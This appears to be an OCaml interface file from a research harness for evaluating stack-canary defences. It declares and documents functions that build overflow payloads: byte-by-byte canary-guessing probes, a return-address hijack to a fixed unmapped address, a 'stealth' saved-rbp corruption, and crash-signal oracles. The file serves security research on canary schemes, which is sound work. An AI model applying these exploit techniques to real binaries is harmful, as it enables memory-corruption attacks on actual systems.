(** Overflow payload construction.

    The attacker is assumed to know the victim binary (the paper's
    adversary model gives away source, binary and address layout): in
    particular the distance from the vulnerable buffer to the canary,
    the canary width, and that saved-rbp and the return address sit
    right above the canary. *)

type layout = {
  overflow_distance : int;
      (** bytes from the buffer's first byte to the first canary byte *)
  canary_len : int;  (** total canary bytes guarding the return address *)
}

val magic_ret : int64
(** The (unmapped) address the hijack payload redirects the return to; a
    child segfaulting exactly there proves control-flow capture. *)

val filler : int -> bytes
(** [n] bytes of ['A']. *)

val guess_prefix : layout -> known:bytes -> guess:int -> bytes
(** Byte-by-byte probe: fill up to the canary, replay the [known]
    recovered bytes, then one [guess] byte. Nothing beyond the guess is
    touched. *)

val hijack : layout -> canary:bytes -> bytes
(** Full exploit: fill, write the (believed) canary, clobber saved rbp,
    and point the return address at {!magic_ret}.
    Raises [Invalid_argument] if [canary] length differs from the
    layout's [canary_len]. *)

val hijacked : Oracle.response -> bool
(** Did the child demonstrably jump to {!magic_ret}? *)

val stealth_corruption : layout -> canary:bytes -> bytes
(** Exploit variant that leaves the return address intact: fill, write
    the (believed) canary, clobber only the saved rbp word with
    [0x4242424242424242]. Landing it (see {!stealth_landed}) proves
    undetected corruption beyond the canary — the success criterion
    when the canary is bound to the return address (P-SSP-OWF), where
    {!hijack} would self-invalidate. *)

val stealth_landed : Oracle.response -> bool
(** Did a {!stealth_corruption} get past the canary check? True when
    the child survived, or took SIGSEGV within a page of the planted
    rbp — the caller touching its frame through it after the handler
    returned. A wrong canary aborts (SIGABRT) in the epilogue, before
    the planted rbp is ever loaded. *)
